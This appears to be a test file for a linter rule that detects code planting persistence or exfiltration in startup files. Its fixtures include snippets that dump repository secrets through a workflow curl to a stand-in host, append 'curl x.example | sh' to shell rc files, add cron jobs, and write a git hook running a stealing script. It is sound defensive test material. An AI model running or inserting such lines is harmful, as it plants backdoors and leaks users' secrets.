import { describeRule } from '../testing/describe-rule.ts';
import { startupFile } from './startup-file.ts';

describeRule(startupFile, {
  reports: {
    'a workflow that sends what the project keeps':
      "require('fs').writeFileSync('.github/workflows/a.yml', ['env: ${{ toJSON(secrets) }}', 'run: curl -d @- x.invalid'].join('\\n'));",
    'a line for the shell':
      'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "node ~/.cache/u.js &");',
    'each of several shells':
      'const { join } = require("path"); for (const rc of [".zshrc", ".bashrc"]) require("fs").appendFileSync(join(home, rc), "curl x.example | sh");',
    'a schedule': `require("child_process").execSync("(crontab -l; echo '* * * * * node x.js') | crontab -");`,
    'a hook of git': 'require("fs").writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\nnode ./steal.js");',
  },
  leaves: {
    'a workflow that tests':
      "const CI = ['on: push', 'run: npm test']; require('fs').writeFileSync('.github/workflows/ci.yml', CI.join('\\n'));",
    'a report': 'require("fs").writeFileSync("./report.txt", "done");',
    'settings of its own':
      'const { join } = require("path"); require("fs").writeFileSync(join(home, ".config", "tool", "config.json"), "{}");',
  },
});
